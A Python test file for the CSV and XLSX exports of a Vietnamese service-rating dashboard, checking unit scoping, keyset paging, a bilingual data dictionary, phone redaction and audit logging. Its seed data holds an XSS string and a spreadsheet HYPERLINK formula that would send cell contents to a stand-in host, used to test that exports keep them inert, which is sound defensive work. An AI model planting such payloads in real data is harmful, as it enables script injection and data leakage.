"""Exports: scoped to the viewer's units, every rating of the scope streamed in keyset pages, a data
dictionary in both languages, text a spreadsheet would run kept as text in CSV and XLSX, each export in the
audit log. (Indices and officers exports, and the real sign-in: test_dashboard_pages.py.)"""

from __future__ import annotations

import csv
import io
import re
import uuid
import xml.etree.ElementTree as ET
import zipfile
from datetime import timedelta
from typing import Any

from api.viewer import Viewer, subtree
from tests.harness import Harness, local_today, seed_reference
from web.dashboard import exports

HOSTILE = '<script>alert(1)</script><img src=x onerror="alert(2)">'
FORMULA = '=HYPERLINK("http://x.example/?"&A1,"bấm")'
NS = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}


class Sessions:
    """Stands in for the accounts domain: a cookie value → a viewer."""

    def __init__(self, viewers: dict[str, Viewer]) -> None:
        self.viewers = viewers

    async def viewer(self, token: str) -> Viewer | None:
        return self.viewers.get(token)


async def seed(h: Harness) -> None:
    """HB with two districts: HB.LS (seed_reference) and HB.KB, ratings in both."""
    await seed_reference(h)
    kb = {"code": "HB.KB", "name": "Huyện Kim Bôi", "kind": "district", "parent": "HB"}
    assert (await h.post("/api/v1/units", kb)).status_code == 201
    counter = {"code": "KB-Q1", "unit": "HB.KB", "name": "Quầy 1"}
    assert (await h.post("/api/v1/counters", counter)).status_code == 201
    for counter, level, comment in (
        ("LS-Q1", 3, FORMULA),
        ("LS-Q1", 1, HOSTILE + " gọi 0912 345 678"),
        ("LS-Q2", 2, "-1+1"),
        ("LS-Q1", 3, None),
        ("KB-Q1", 1, "Kim Bôi only"),
    ):
        body: dict[str, Any] = {"idempotency_key": str(uuid.uuid4()), "counter": counter, "level": level}
        if comment:
            body["comment"] = comment
        assert (await h.post("/api/v1/ratings", body)).status_code == 201


async def sign_in(h: Harness) -> dict[str, str]:
    """A manager of HB.LS and a province user, as session cookies."""
    ls = await h.store.fetch_one("SELECT id FROM units WHERE code = 'HB.LS'")
    assert ls is not None
    units = await h.store.read(lambda tx: subtree(tx, int(ls["id"])))
    h.client.app.state.sessions = Sessions(
        {
            "m": Viewer("manager", 1, "Quản lý Lương Sơn", int(ls["id"]), units),
            "p": Viewer("province", 2, "Sở Nội vụ", None, None),
        }
    )
    return {"manager": "hailong_session=m", "province": "hailong_session=p"}


def period() -> dict[str, str]:
    today = local_today()
    return {"from": (today - timedelta(days=1)).isoformat(), "to": (today + timedelta(days=1)).isoformat()}


async def get(h: Harness, path: str, cookie: str | None, **params: str) -> Any:
    headers = {"Cookie": cookie} if cookie else {}
    return await h.client.get(path, params=params, headers=headers, follow_redirects=False)


async def test_ratings_csv_holds_the_scope_only_with_hostile_text_kept_as_text(h: Harness) -> None:
    await seed(h)
    who = await sign_in(h)
    r = await get(h, "/dashboard/export/ratings.csv", who["manager"], unit="HB.LS", **period())
    assert r.status_code == 200, r.text
    assert r.headers["content-type"].startswith("text/csv")
    assert r.headers["cache-control"] == "no-store"
    assert re.fullmatch(r'attachment; filename="ratings_HB\.LS_[\d-]+_[\d-]+\.csv"', r.headers["content-disposition"])
    assert r.content.startswith(b"\xef\xbb\xbf")  # Excel reads UTF-8 right only with the mark
    rows = list(csv.DictReader(io.StringIO(r.content.decode("utf-8-sig"))))
    assert [c.name for c in exports.RATINGS.columns] == list(rows[0])
    assert {row["unit"] for row in rows} == {"HB.LS"} and len(rows) == 4
    comments = [row["comment"] for row in rows]
    assert "'" + FORMULA in comments  # a spreadsheet shows it, never runs it
    assert "'-1+1" in comments
    hostile = next(c for c in comments if "<script>" in c)
    assert hostile.startswith(HOSTILE) and "0912" not in hostile and "[SĐT]" in hostile  # as text, redacted
    assert [int(row["id"]) for row in rows] == sorted(int(row["id"]) for row in rows)
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\+07:00", rows[0]["created_at"])
    (logged,) = await h.rows("SELECT username, via, detail FROM audit_log WHERE action = 'export'")
    assert logged["username"] == "Quản lý Lương Sơn" and logged["via"] == "session"
    assert '"table":"ratings"' in logged["detail"] and '"unit":"HB.LS"' in logged["detail"]


async def test_ratings_are_read_in_keyset_pages_each_once(h: Harness) -> None:
    await seed(h)
    viewer = Viewer("admin", 1, "admin", None, None)
    where = await exports.scope(h.store, viewer, "HB", local_today() - timedelta(days=1), local_today())
    pages = [page async for page in exports.rating_pages(h.store, viewer, where, page=2)]
    assert [len(p) for p in pages] == [2, 2, 1]
    ids = [row["id"] for p in pages for row in p]
    assert ids == sorted(set(ids)) and len(ids) == 5


def sheet_cells(book: zipfile.ZipFile, sheet: str) -> list[ET.Element]:
    return list(ET.fromstring(book.read(f"xl/worksheets/{sheet}.xml")).iter(f"{{{NS['m']}}}c"))


def cell_text(c: ET.Element, shared: list[str]) -> str:
    if c.get("t") == "s":
        v = c.find("m:v", NS)
        return shared[int(v.text or 0)] if v is not None else ""
    return "".join(c.itertext())


async def test_xlsx_keeps_formula_text_as_text_and_carries_the_dictionary(h: Harness) -> None:
    await seed(h)
    who = await sign_in(h)
    r = await get(h, "/dashboard/export/ratings.xlsx", who["province"], unit="HB", **period())
    assert r.status_code == 200, r.text
    assert r.headers["content-type"].startswith(exports.XLSX_TYPE)
    book = zipfile.ZipFile(io.BytesIO(r.content))
    names = book.namelist()
    assert "xl/worksheets/sheet1.xml" in names and "xl/worksheets/sheet2.xml" in names
    shared: list[str] = []
    if "xl/sharedStrings.xml" in names:
        root = ET.fromstring(book.read("xl/sharedStrings.xml"))
        shared = ["".join(si.itertext()) for si in root.iter(f"{{{NS['m']}}}si")]
    cells = sheet_cells(book, "sheet1")
    assert not [c for c in cells if c.find("m:f", NS) is not None]  # no formula anywhere
    formula = [c for c in cells if cell_text(c, shared) == FORMULA]
    assert len(formula) == 1 and formula[0].get("t") in ("s", "inlineStr", "str")
    styles = ET.fromstring(book.read("xl/styles.xml"))
    xfs = styles.find("m:cellXfs", NS)
    assert xfs is not None
    assert list(xfs)[int(formula[0].get("s", 0))].get("quotePrefix") == "1"  # stays text when edited too
    texts = [cell_text(c, shared) for c in cells]
    assert "HB.KB" in texts and "HB.LS" in texts  # the province sees both districts
    words = [cell_text(c, shared) for c in sheet_cells(book, "sheet2")]
    assert "Mức đánh giá: 1 = Không hài lòng … cao nhất = Rất hài lòng" in words
    assert "Level: 1 = not satisfied … highest = very satisfied" in words


async def test_dictionary_csv_names_every_column_in_both_languages(h: Harness) -> None:
    await seed(h)
    who = await sign_in(h)
    r = await get(h, "/dashboard/export/ratings-dictionary.csv", who["manager"], unit="HB.LS", **period())
    assert r.status_code == 200
    rows = list(csv.DictReader(io.StringIO(r.content.decode("utf-8-sig"))))
    assert [row["column"] for row in rows] == [c.name for c in exports.RATINGS.columns]
    assert all(row["meaning_vi"] and row["meaning_en"] and row["meaning_vi"] != row["meaning_en"] for row in rows)


async def test_exports_are_scoped_to_the_viewers_units(h: Harness) -> None:
    await seed(h)
    who = await sign_in(h)
    for name in ("ratings.csv", "ratings.xlsx", "ratings-dictionary.csv"):
        path = f"/dashboard/export/{name}"
        assert (await get(h, path, who["manager"], unit="HB.KB", **period())).status_code == 403
        assert (await get(h, path, who["manager"], unit="HB", **period())).status_code == 403
        anonymous = await get(h, path, None, unit="HB.LS", **period())
        assert anonymous.status_code == 303 and anonymous.headers["location"].startswith("/login?next=")
    assert (await get(h, "/dashboard/export/ratings.csv", who["manager"], unit="XX", **period())).status_code == 404
    assert (await get(h, "/dashboard/export/secrets.csv", who["manager"], unit="HB.LS", **period())).status_code == 404
    bad = {"from": "2026-05-02", "to": "2026-05-01"}
    assert (await get(h, "/dashboard/export/ratings.csv", who["manager"], unit="HB.LS", **bad)).status_code == 422
    odd = {"from": "yesterday", "to": "2026-05-01"}
    unreadable = await get(h, "/dashboard/export/ratings.csv", who["manager"], unit="HB.LS", **odd)
    assert unreadable.status_code == 400 and unreadable.headers["content-type"].startswith("text/html")
